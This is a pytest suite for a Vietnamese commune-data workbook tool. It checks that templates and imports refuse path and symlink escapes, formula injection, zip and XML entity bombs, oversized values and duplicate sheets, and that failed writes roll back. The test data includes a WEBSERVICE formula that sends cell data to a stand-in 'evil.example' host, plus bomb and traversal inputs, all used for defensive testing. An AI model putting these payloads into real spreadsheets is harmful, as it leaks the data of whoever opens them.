"""Hostile input and faults in the data workbook (issue 11): ``ntm template``
never overwrites a file without ``--force`` nor writes into params/ or
data/; text is written as text, never as a formula; a workbook over a limit
is refused before openpyxl loads it; two sheets for one are refused; an
import is all or nothing, restoring every file when a write fails.

Every case checks the exit code, the one-line message naming the place and
the limit, that no traceback is printed, and what was (not) written. Every
test works on a copy of the project (``NTM_HOME``).
"""
from __future__ import annotations

import dataclasses
import errno
import hashlib
import os
import re
import shutil
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
import yaml

import workbook_cases as wc
from ntm_lib import limits
from ntm_lib.errors import DataError, LimitError, NtmError, UnsafePathError
from ntm_lib.redact import REDACTED
from ntm_lib.workbook import WorkbookError, gather, read_workbook, write_template
from ntm_lib.workbook import commit, write as workbook_write
from ntm_lib.workbook.numbers import parse_int
from test_workbook import good, listing, project, run, sample_template  # noqa: F401 (fixtures)

STRAY = re.compile(r"\.(tmp|ntm-tmp|ntm-bak)$")


def tree(root: Path) -> dict[str, str]:
    """Every entry under ``root``: file -> SHA-256, folder -> "dir", link -> its target."""
    out = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            p = Path(folder) / name
            key = str(p.relative_to(root))
            if p.is_symlink():
                out[key] = "-> " + os.readlink(p)
            elif p.is_dir():
                out[key] = "dir"
            elif p.is_file():
                out[key] = hashlib.sha256(p.read_bytes()).hexdigest()
            else:
                out[key] = "special"
    return out


def strays(root: Path) -> list[str]:
    return [str(p) for p in root.rglob("*") if STRAY.search(p.name)]


def clean(out: str, err: str) -> None:
    assert "Traceback" not in out and "Traceback" not in err, err
    assert len([ln for ln in err.splitlines() if ln.strip()]) == 1, err


def template(capsys, *args: str) -> tuple[int, str, str]:
    base = ["template", "--commune", "02881", "--year", "2023"]
    return run(base + list(args), capsys)


# --------------------------------------------------------------------------- template: where it writes


def _existing(p, t):
    (t / "mine.xlsx").write_bytes(b"a filled workbook")
    return ["--out", "mine.xlsx"], "file exists"


def _default_exists(p, t):
    (t / "nam-mon-2023.xlsx").write_bytes(b"filled")
    return [], "file exists"


def _symlink_to_params(p, t):
    (t / "link.xlsx").symlink_to(p / "params" / "2023" / "nam-mon.yaml")
    return ["--out", "link.xlsx", "--force"], "refusing to write a workbook inside"


def _folder_link_into_data(p, t):
    (t / "out").symlink_to(p / "data" / "communes")
    return ["--out", "out/x.xlsx", "--force"], "refusing to write a workbook inside"


def _folder(p, t):
    (t / "d.xlsx").mkdir()
    return ["--out", "d.xlsx", "--force"], "a folder stands where the workbook"


def _under_a_file(p, t):
    (t / "mine.xlsx").write_bytes(b"x")
    return ["--out", "mine.xlsx/b.xlsx"], "a file stands where a folder"


def _yaml_outside(p, t):
    (t / "notes.yaml").write_text("keep: me\n")
    return ["--out", "notes.yaml", "--force"], "must be named *.xlsx"


def _params_file_is_a_folder(p, t):
    target = p / "params" / "2023" / "nam-mon.yaml"
    target.unlink()
    target.mkdir()
    return ["--out", "n.xlsx"], "params/2023/nam-mon.yaml: this is not a file"


TEMPLATE_REFUSALS = [
    ("existing-file", _existing),
    ("default-name-exists", _default_exists),
    ("params-yaml-even-with-force",
     lambda p, t: (["--out", str(p / "params/2023/nam-mon.yaml"), "--force"], "inside")),
    ("new-xlsx-in-params", lambda p, t: (["--out", str(p / "params/2023/x.xlsx"), "--force"],
                                         "inside")),
    ("xlsx-in-data", lambda p, t: (["--out", str(p / "data/communes/02881/x.xlsx")], "inside")),
    ("dotdot-into-params", lambda p, t: (["--out", "no/../project/params/y.xlsx"], "inside")),
    ("symlink-to-params-file", _symlink_to_params),
    ("folder-link-into-data", _folder_link_into_data),
    ("out-is-a-folder", _folder),
    ("out-under-a-file", _under_a_file),
    ("not-xlsx", lambda p, t: (["--out", "notes.txt"], "must be named *.xlsx")),
    ("existing-yaml-outside-with-force", _yaml_outside),
    ("unknown-criteria-set", lambda p, t: (["--criteria-set", "nope", "--out", "n.xlsx"],
                                           "--criteria-set: unknown criteria set 'nope'")),
    ("params-file-is-a-folder", _params_file_is_a_folder),
]


@pytest.mark.parametrize("name,setup", TEMPLATE_REFUSALS, ids=[c[0] for c in TEMPLATE_REFUSALS])
def test_template_refuses_a_target(name, setup, project, capsys):
    work = project.parent
    args, message = setup(project, work)
    before = tree(work)
    status, out, err = template(capsys, *args)
    assert status == 2, err
    assert message in err and err.startswith("error: ")
    clean(out, err)
    assert tree(work) == before  # nothing written, nothing replaced
    assert not strays(work)


@pytest.mark.parametrize("args,message", [
    (["template", "--commune", "02881", "--year", "99999"], "expected a year"),
    (["template", "--commune", "02881", "--year", "hai"], "expected a year"),
    (["template", "--commune", "99999", "--year", "2023", "--out", "x.xlsx"], "99999"),
    (["template", "--commune", "02881"], "--year"),
], ids=["year-out-of-range", "year-in-words", "unknown-commune", "year-missing"])
def test_template_argument_errors_exit_2(args, message, project, capsys):
    before = tree(project.parent)
    status, out, err = run(args, capsys)
    assert status == 2 and message in err
    assert "Traceback" not in err + out
    assert tree(project.parent) == before


def test_force_replaces_an_existing_workbook(project, capsys):
    mine = project.parent / "mine.xlsx"
    mine.write_bytes(b"old")
    status, out, err = template(capsys, "--out", "mine.xlsx", "--force")
    assert status == 0, err
    assert openpyxl.load_workbook(mine).sheetnames[0] == "Thông tin chung"
    assert not strays(project.parent)


def test_force_replaces_a_link_not_what_it_points_to(project, capsys):
    outside = project.parent / "elsewhere.xlsx"
    outside.write_bytes(b"someone's workbook")
    link = project.parent / "link.xlsx"
    link.symlink_to(outside)
    status, _, err = template(capsys, "--out", "link.xlsx", "--force")
    assert status == 0, err
    assert not link.is_symlink() and outside.read_bytes() == b"someone's workbook"


def test_template_on_a_full_disk(project, capsys, monkeypatch):
    mine = project.parent / "mine.xlsx"
    mine.write_bytes(b"filled")

    def full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")
    monkeypatch.setattr(os, "fsync", full)
    status, out, err = template(capsys, "--out", "mine.xlsx", "--force")
    assert status == 1 and "disk full" in err and "mine.xlsx" in err
    clean(out, err)
    assert mine.read_bytes() == b"filled" and not strays(project.parent)


# --------------------------------------------------------------------------- template: text stays text

INJECTIONS = ['=WEBSERVICE("http://evil.example/?q="&B5)', '=HYPERLINK("http://x.example","ok")',
              "+1+2", "-3+4", "@SUM(1,2)", "=1+1", "#N/A", "==="]


def _sheet_xml(path: Path) -> str:
    """The worksheets' XML with character references resolved (openpyxl
    writes "«" as "&#171;" when it serialises with lxml)."""
    import html

    with zipfile.ZipFile(path) as archive:
        return html.unescape("".join(archive.read(n).decode("utf-8") for n in archive.namelist()
                                     if n.startswith("xl/worksheets/")))


@pytest.mark.parametrize("text", INJECTIONS)
def test_template_writes_formula_like_text_as_text(text, project):
    known = gather("02881", 2023)
    known.params["signer_name"] = text
    known.params["narrative"]["closing"] = text
    known.commune = dataclasses.replace(known.commune, name=text)
    path = write_template(project.parent / "t.xlsx", known)
    wb = openpyxl.load_workbook(path, data_only=False)
    found = [(ws.title, c.coordinate) for ws in wb for row in ws.iter_rows() for c in row
             if c.value == text]
    sheets = {s for s, _ in found}
    assert {"Thông tin chung", "Lời văn"} <= sheets, found  # signer, commune name, closing
    assert len(found) >= 3
    assert all(wb[s][ref].data_type == "s" for s, ref in found)  # text, not formula nor error
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
    assert "<f>" not in _sheet_xml(path)
    # the workbook's own checks are still there: drop-down lists and number checks
    lists = [dv.formula1 for dv in wb["Tiêu chí"].data_validations.dataValidation]
    assert any("Đạt,Không đạt" in f for f in lists)
    assert any(dv.type == "whole" for dv in wb["Theo quý"].data_validations.dataValidation)


def test_formula_like_text_round_trips_as_text(project, capsys):
    known = gather("02881", 2023)
    text = '=WEBSERVICE("http://evil.example/")'
    known.params["signer_name"] = text
    path = write_template(project.parent / "t.xlsx", known)
    status, out, err = run(["import", str(path)], capsys)
    assert status == 0, err
    params = yaml.safe_load((project / "params/2023/nam-mon.yaml").read_text(encoding="utf-8"))
    assert params["signer_name"] == text


@pytest.mark.parametrize("text,what", [("Nguyễn\x07Văn A", "U+0007"),
                                       ("a\x00b", "U+0000"), ("x" * 40_000, "40,000 characters")])
def test_template_refuses_text_a_workbook_cannot_hold(text, what, project):
    known = gather("02881", 2023)
    known.params["signer_name"] = text
    with pytest.raises(DataError) as caught:
        write_template(project.parent / "t.xlsx", known)
    assert what in str(caught.value) and "sheet Thông tin chung, cell B" in str(caught.value)
    assert not (project.parent / "t.xlsx").exists() and not strays(project.parent)


def test_template_redacts_secrets(project, monkeypatch):
    monkeypatch.setenv("NTM_SECRET_DATA_API_TOKEN", "tok-3f9a1c77e2")
    known = gather("02881", 2023)
    known.params["narrative"]["closing"] = "the token is tok-3f9a1c77e2, do not share"
    path = write_template(project.parent / "t.xlsx", known)
    assert "tok-3f9a1c77e2" not in _sheet_xml(path) and REDACTED in _sheet_xml(path)


# --------------------------------------------------------------------------- import: formulas in text

FORMULA_CELLS = [
    ("narrative-webservice", wc.cached_formula("Lời văn", "B5", '=WEBSERVICE("http://evil/")',
                                               "Giúp xã hoàn thành."), "Lời văn!B5"),
    ("document-description", wc.cached_formula("Văn bản", "D5", '=A5&" kế hoạch"',
                                               "256-KH kế hoạch"), "Văn bản!D5"),
    ("signer-name", wc.cached_formula("Thông tin chung", "B21", '=UPPER("Nguyễn Văn A")',
                                      "NGUYỄN VĂN A"), "Thông tin chung!B21"),
]


@pytest.mark.parametrize("name,build,where", FORMULA_CELLS, ids=[c[0] for c in FORMULA_CELLS])
def test_a_calculated_formula_in_a_text_field_is_refused(name, build, where, project, good,
                                                         capsys):
    bad = project.parent / f"{name}.xlsx"
    build(good, bad)
    before = listing(project)
    status, out, err = run(["import", str(bad)], capsys)
    assert status == 2 and f"{where}: " in err and "ô chữ có công thức" in err
    clean(out, err)
    assert listing(project) == before
    with pytest.raises(WorkbookError) as caught:
        read_workbook(bad)
    assert caught.value.code == "formula_in_text"


def test_a_calculated_formula_in_a_number_field_is_read(project, good, capsys):
    path = project.parent / "sum.xlsx"
    wc.cached_formula("Theo quý", "C9", "=SUM(C5:C8)", "16")(good, path)
    assert read_workbook(path).rows["year_stated.csv"][0]["visits"] == 16


def test_text_that_starts_with_equals_is_text(project, good, capsys):
    path = project.parent / "eq.xlsx"
    def typed(wb):  # typed with a quote ('=...) in Excel: a text cell, not a formula
        c = wb["Văn bản"]["D5"]
        c.value, c.data_type = "=Kế hoạch giúp đỡ xã", "s"
    wc.edit(typed)(good, path)
    data = read_workbook(path)
    assert data.rows["documents.csv"][0]["title_vi"] == "=Kế hoạch giúp đỡ xã"


# --------------------------------------------------------------------------- import: bounded cost


def _sparse(size):
    def build(good, path):
        with path.open("wb") as f:
            f.write(b"PK\x03\x04")
            f.truncate(size)
    return build


def _fifo(good, path):
    os.mkfifo(path)


def _device(good, path):
    path.symlink_to("/dev/zero")


def _loop(good, path):
    path.symlink_to(path.name)


def _member(name, change):
    def build(good, path):
        path.write_bytes(good.read_bytes())
        wc.rezip(path, lambda m: m.__setitem__(name, change(m[name])))
    return build


def _insert_before(tag: bytes, xml_part: bytes):
    return lambda xml: xml.replace(tag, xml_part + tag, 1)


def _long_text(xml: bytes) -> bytes:
    return re.sub(rb"<t>[^<]*</t>", b"<t>" + b"x " * 20_000 + b"</t>", xml, count=1)


def _value(ref: str, value: bytes):
    return lambda xml: re.sub(rb'(<c r="' + ref.encode() + rb'"[^>]*>)<v>[^<]*</v>',
                              rb"\1<v>" + value + rb"</v>", xml, count=1)


def _styled_far_down(wb):
    wb["Văn bản"].cell(200_000, 1).number_format = "0"


R = limits.SHEET_ROWS
# (id, build, code, message part, limits patched)
LIMIT_CASES = [
    ("file-over-20-MiB", _sparse(limits.XLSX_FILE_BYTES + 1), "too_large", "XLSX_FILE_BYTES", {}),
    ("zip-bomb", wc.big_member("xl/media/bomb.bin", 64 * limits.MiB, b"\0"), "too_large",
     "XLSX_COMPRESSION_RATIO", {}),
    ("declared-size-lies", wc.lying_size("xl/media/bomb.bin", 64 * limits.MiB), "damaged",
     "Bad CRC-32", {}),
    ("uncompressed-total", wc.big_member("xl/media/noise.bin", 2 * limits.MiB, b"ab"),
     "too_large", "XLSX_UNCOMPRESSED_BYTES",
     {"XLSX_UNCOMPRESSED_BYTES": limits.MiB, "XLSX_COMPRESSION_RATIO": 10 ** 6}),
    ("many-members", wc.many_members(limits.XLSX_MEMBERS), "too_large", "XLSX_MEMBERS", {}),
    ("value-in-A1048576", wc.edit(wc.cell("Hướng dẫn", "A1048576", 1)), "too_large",
     "Hướng dẫn!A1048576", {}),
    ("value-in-XFD5", wc.edit(wc.cell("Theo quý", "XFD5", 1)), "too_large", "Theo quý!XFD5", {}),
    ("row-just-over", wc.edit(wc.cell("Hướng dẫn", f"A{R + 1}", "x")), "too_large",
     "SHEET_ROWS", {}),
    ("column-just-over", wc.edit(wc.cell("Hướng dẫn", "BI1", "x")), "too_large",
     "SHEET_COLUMNS", {}),
    ("styled-empty-cell-far-down", wc.edit(_styled_far_down), "too_large", "Văn bản!A200000", {}),
    ("huge-merge", wc.xml_edit("Theo quý", _insert_before(
        b"<pageMargins", b'<mergeCells count="1"><mergeCell ref="A20:F1048576"/></mergeCells>')),
     "too_large", "Theo quý!A20:F1048576", {}),
    ("huge-hyperlink-range", wc.xml_edit("Theo quý", _insert_before(
        b"<pageMargins", b'<hyperlinks><hyperlink ref="A1:AZ100000" display="x"/></hyperlinks>')),
     "too_large", "SHEET_ROWS", {}),
    ("cells", wc.edit(wc.cell("Hướng dẫn", "A1", "x")), "too_large", "XLSX_CELLS",
     {"XLSX_CELLS": 500}),
    ("merge-area-counts", wc.xml_edit("Hướng dẫn", _insert_before(
        b"<pageMargins", b'<mergeCells count="1"><mergeCell ref="A100:BH200"/></mergeCells>')),
     "too_large", "XLSX_CELLS", {"XLSX_CELLS": 5000}),
    ("xml-elements", wc.edit(wc.cell("Hướng dẫn", "A1", "x")), "too_large", "XLSX_XML_ELEMENTS",
     {"XLSX_XML_ELEMENTS": 500}),
    ("entity-bomb-in-a-sheet", wc.xml_edit("Theo quý", wc.with_entity_bomb), "xml_entities",
     "DTD", {}),
    ("doctype-in-workbook-xml", _member("xl/workbook.xml", lambda x: b"<!DOCTYPE w>" + x),
     "xml_entities", "xl/workbook.xml", {}),
    ("text-node-longer-than-excel", wc.xml_edit("Văn bản", _long_text), "too_large",
     "32.767 ký tự", {}),
    ("damaged-sheet-xml", wc.xml_edit("Theo quý", lambda x: x[: len(x) // 2]), "damaged",
     "sheet4.xml", {}),
    ("fifo", _fifo, "not_a_file", "không phải một tệp thường", {}),
    ("device", _device, "not_a_file", "không phải một tệp thường", {}),
    ("symlink-loop", _loop, "unreadable", "không đọc được tệp", {}),
    ("text-over-TEXT_CHARS", wc.edit(wc.cell("Văn bản", "D5", "chữ " * 5_001)), "text_too_long",
     "Văn bản!D5", {}),
    ("paragraph-over-TEXT_CHARS", wc.edit(wc.cell("Lời văn", "B5", "a\n" * 10_001)),
     "text_too_long", "limits.TEXT_CHARS", {}),
    ("word-too-long", wc.edit(wc.cell("Lời văn", "B5", "x" * 500)), "word_too_long",
     "limits.WORD_CHARS", {}),
    ("400-digit-text-in-visits", wc.edit(wc.cell("Theo quý", "C5", "1" * 400)),
     "number_too_large", "Theo quý!C5", {}),
    ("2**63-in-visits", wc.edit(wc.cell("Theo quý", "C5", 2 ** 63)), "number_too_large",
     "limits.INTEGER_DIGITS", {}),
    ("400-digit-number-in-visits", wc.xml_edit("Theo quý", _value("C5", b"1" * 400)),
     "number_too_large", "Theo quý!C5", {}),
    ("13-digits-in-documents-issued", wc.edit(wc.cell("Theo quý", "B5", "1234567890123")),
     "number_too_large", "Theo quý!B5", {}),
    ("1e300-in-money", wc.edit(wc.cell("Theo quý", "D5", 1e300)), "number_too_large",
     "Theo quý!D5", {}),
    ("infinity-in-the-xml", wc.xml_edit("Theo quý", _value("C5", b"1e999")),
     "number_too_large", "Theo quý!C5", {}),
]


@pytest.mark.parametrize("name,build,code,message,patch", LIMIT_CASES,
                         ids=[c[0] for c in LIMIT_CASES])
def test_a_workbook_over_a_limit_is_refused_quickly(name, build, code, message, patch, project,
                                                    good, capsys, monkeypatch):
    for key, value in patch.items():
        monkeypatch.setattr(limits, key, value)
    bad = project.parent / f"{name}.xlsx"
    build(good, bad)
    before = listing(project)
    started = time.monotonic()
    status, out, err = run(["import", str(bad)], capsys)
    assert time.monotonic() - started < 10
    assert status == 2, err
    assert message in err and f"{bad.name}" in err, err
    clean(out, err)
    assert listing(project) == before
    with pytest.raises(WorkbookError) as caught:
        read_workbook(bad)
    codes = {e.code for e in getattr(caught.value, "errors", [caught.value])}
    assert code in codes, codes
    if code == "too_large":
        assert isinstance(caught.value, LimitError) and "giới hạn" in str(caught.value)


def test_a_dimension_that_lies_is_not_believed(project, good):
    path = project.parent / "dimension.xlsx"
    wc.xml_edit("Theo quý", lambda x: re.sub(rb'<dimension ref="[^"]*"', b'<dimension '
                                                 b'ref="A1:XFD1048576"', x))(good, path)
    assert read_workbook(path).rows["quarterly.csv"][0]["visits"] == 3


def test_at_the_row_limit_is_read(project, good):
    path = project.parent / "edge.xlsx"
    wc.edit(wc.cell("Hướng dẫn", f"A{limits.SHEET_ROWS}", "ghi chú"))(good, path)
    assert read_workbook(path).year == 2023


@pytest.mark.parametrize("value,code", [("999999999999", None), (999_999_999_999, None),
                                        ("1000000000000", "number_too_large"),
                                        (10 ** 12, "number_too_large"),
                                        (-float("inf"), "number_too_large"),
                                        (float("nan"), "not_a_number")])
def test_integer_digits_limit(value, code):
    from ntm_lib.workbook.cells import BadCell

    if code is None:
        assert parse_int(value) == 999_999_999_999
    else:
        with pytest.raises(BadCell) as caught:
            parse_int(value)
        assert caught.value.code == code


# --------------------------------------------------------------------------- import: two sheets for one

DUPLICATES = [
    ("without-diacritics", "Theo quý", "Theo quy"),
    ("an-alias", "Theo quý", "Quý"),
    ("van-ban-without-diacritics", "Văn bản", "Van ban"),
    ("spaced", "Theo quý", "Theo  quý"),
    ("general-folded", "Thông tin chung", "thong tin chung"),
]


@pytest.mark.parametrize("name,source,copy", DUPLICATES, ids=[d[0] for d in DUPLICATES])
def test_two_sheets_for_one_are_both_refused(name, source, copy, project, good, capsys):
    bad = project.parent / f"{name}.xlsx"
    wc.edit(wc.add_sheet_copy(source, copy))(good, bad)
    before = listing(project)
    status, out, err = run(["import", str(bad)], capsys)
    assert status == 2
    line = next(ln for ln in err.splitlines() if "cùng được hiểu là trang" in ln)
    assert f"'{source}'" in line and f"'{copy}'" in line and f"trang {source}" in line
    assert "Traceback" not in err + out and listing(project) == before
    with pytest.raises(WorkbookError) as caught:
        read_workbook(bad)
    assert "duplicate_sheet" in {e.code for e in getattr(caught.value, "errors", [caught.value])}


# --------------------------------------------------------------------------- import: all or nothing

FOLDER = Path("data/communes/02881")


@pytest.fixture
def changed(project, good) -> Path:
    """A workbook changing three files, in this order: quarterly.csv,
    documents.csv, params/2023/nam-mon.yaml."""
    path = project.parent / "changed.xlsx"
    wc.edit(wc.both(wc.cell("Theo quý", "C6", 8), wc.cell("Văn bản", "D5", "Kế hoạch mới"),
                    wc.form_value("Thông tin chung", "Họ và tên người ký", "Lê Thị C")))(good, path)
    return path


def test_an_import_leaves_no_backup_behind(project, changed, capsys):
    before = listing(project)
    status, out, err = run(["import", str(changed)], capsys)
    assert status == 0, err
    after = listing(project)
    assert {k for k in after if after[k] != before[k]} == {
        str(FOLDER / "quarterly.csv"), str(FOLDER / "documents.csv"), "params/2023/nam-mon.yaml"}
    assert not strays(project.parent)


def _folder_at_documents(p, mp):
    target = p / FOLDER / "documents.csv"
    target.unlink()
    (target / "inside").mkdir(parents=True)
    return "documents.csv: a folder stands where the file"


def _params_year_is_a_file(p, mp):
    shutil.rmtree(p / "params" / "2023")
    (p / "params" / "2023").write_text("not a folder")
    return "params/2023: a file stands where a folder should be"


def _params_file_is_a_folder(p, mp):
    (p / "params/2023/nam-mon.yaml").unlink()
    (p / "params/2023/nam-mon.yaml").mkdir()
    return "params/2023/nam-mon.yaml: a folder stands"


def _target_is_a_link(p, mp):
    target = p / FOLDER / "documents.csv"
    outside = p.parent / "documents-elsewhere.csv"
    shutil.move(target, outside)
    target.symlink_to(outside)
    return "documents.csv: a symbolic link stands"


def _commune_folder_links_out(p, mp):
    folder = p / FOLDER
    outside = p.parent / "02881-elsewhere"
    shutil.move(folder, outside)
    folder.symlink_to(outside)
    return "refusing to follow a symbolic link out of"


def _no_permission(p, mp):
    real = os.access
    folder = p / FOLDER
    mp.setattr(os, "access", lambda path, mode, **kw: False if Path(path) == folder
               else real(path, mode, **kw))
    return "cannot write in this folder (permission denied)"


BLOCKED = [("second-target-is-a-folder", _folder_at_documents, 2),
           ("params-year-is-a-file", _params_year_is_a_file, 2),
           ("params-file-is-a-folder", _params_file_is_a_folder, 2),
           ("target-is-a-symlink", _target_is_a_link, 2),
           ("commune-folder-links-out-of-data", _commune_folder_links_out, 2),
           ("folder-not-writable", _no_permission, 1)]


@pytest.mark.parametrize("dry", [False, True], ids=["import", "dry-run"])
@pytest.mark.parametrize("name,setup,code", BLOCKED, ids=[b[0] for b in BLOCKED])
def test_every_target_is_checked_before_the_first_write(name, setup, code, dry, project,
                                                        changed, capsys, monkeypatch):
    message = setup(project, monkeypatch)
    before = tree(project.parent)
    status, out, err = run(["import", *(["--dry-run"] if dry else []), str(changed)], capsys)
    assert status == code, err
    assert message in err
    clean(out, err)
    assert tree(project.parent) == before and not strays(project.parent)


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only folders")
def test_a_read_only_folder(project, changed, capsys):
    folder = project / FOLDER
    folder.chmod(0o555)
    try:
        before = tree(project.parent)
        status, out, err = run(["import", str(changed)], capsys)
    finally:
        folder.chmod(0o755)
    assert status == 1 and "permission denied" in err
    assert tree(project.parent) == before


def _fail_at(n: int, kind: str, monkeypatch) -> None:
    """Make the n-th file write of the import fail the way ``kind`` says."""
    calls = {"n": 0}
    if kind == "disk-full":
        real_fsync = os.fsync

        def fsync(fd):
            calls["n"] += 1
            if calls["n"] == n:
                raise OSError(errno.ENOSPC, "No space left on device")
            return real_fsync(fd)
        monkeypatch.setattr(os, "fsync", fsync)
        return
    real_write = commit.atomic_write

    def atomic_write(path, *args, **kw):
        calls["n"] += 1
        if calls["n"] == n:
            if kind == "interrupt":
                raise KeyboardInterrupt
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real_write(path, *args, **kw)
    monkeypatch.setattr(commit, "atomic_write", atomic_write)


@pytest.mark.parametrize("n", [1, 2, 3])
@pytest.mark.parametrize("kind,code,message", [("disk-full", 1, "disk full"),
                                                ("permission", 1, "Permission denied"),
                                                ("interrupt", 130, "interrupted")])
def test_a_failed_write_restores_every_file(kind, code, message, n, project, changed, capsys,
                                            monkeypatch):
    _fail_at(n, kind, monkeypatch)
    before = tree(project.parent)
    status, out, err = run(["import", str(changed)], capsys)
    assert status == code, err
    assert message in err
    clean(out, err)
    assert tree(project.parent) == before  # the files written before the failure restored
    assert not strays(project.parent)


@pytest.mark.parametrize("n", [1, 2, 3])
def test_new_files_and_folders_are_removed_on_failure(n, tmp_path, monkeypatch):
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "old.csv").write_text("old\n")
    before = tree(tmp_path)
    texts = {tmp_path / "a" / "old.csv": "new\n", tmp_path / "a" / "b" / "new.csv": "x\n",
             tmp_path / "p" / "2030" / "c.yaml": "y: 1\n"}
    _fail_at(n, "disk-full", monkeypatch)
    with pytest.raises(NtmError) as caught:
        commit.replace_all(texts)
    assert caught.value.exit_code == 1 and "disk full" in str(caught.value)
    assert tree(tmp_path) == before


@pytest.mark.parametrize("fail", [None, 2])
def test_a_copy_is_the_backup_where_hard_links_are_refused(fail, tmp_path, monkeypatch):
    for name in ("one.csv", "two.csv"):
        (tmp_path / name).write_text(f"old {name}\n")
    before = tree(tmp_path)

    def no_links(src, dst, **kw):
        raise PermissionError(errno.EPERM, "Operation not permitted")
    monkeypatch.setattr(os, "link", no_links)
    if fail:
        _fail_at(fail, "permission", monkeypatch)
    texts = {tmp_path / "one.csv": "new one\n", tmp_path / "two.csv": "new two\n"}
    if fail:
        with pytest.raises(NtmError):
            commit.replace_all(texts)
        assert tree(tmp_path) == before
    else:
        commit.replace_all(texts)
        assert (tmp_path / "two.csv").read_text() == "new two\n"
    assert not strays(tmp_path)


def test_a_folder_appearing_after_the_checks(project, changed, capsys, monkeypatch):
    """Between the checks and the writes, documents.csv became a folder: the
    quarterly table already written is restored."""
    real_write = commit.atomic_write

    def atomic_write(path, *args, **kw):
        if Path(path).name == "documents.csv":
            Path(path).unlink()
            Path(path).mkdir()
        return real_write(path, *args, **kw)
    monkeypatch.setattr(commit, "atomic_write", atomic_write)
    quarterly = (project / FOLDER / "quarterly.csv").read_bytes()
    status, out, err = run(["import", str(changed)], capsys)
    assert status == 2 and "documents.csv: a folder stands" in err
    clean(out, err)
    assert (project / FOLDER / "quarterly.csv").read_bytes() == quarterly
    assert not strays(project.parent)


def test_unsafe_path_errors_are_typed(project, changed):
    (project / FOLDER / "documents.csv").unlink()
    (project / FOLDER / "documents.csv").mkdir()
    with pytest.raises(UnsafePathError) as caught:
        workbook_write.write_import(read_workbook(changed))
    assert caught.value.exit_code == 2 and caught.value.file.endswith("documents.csv")
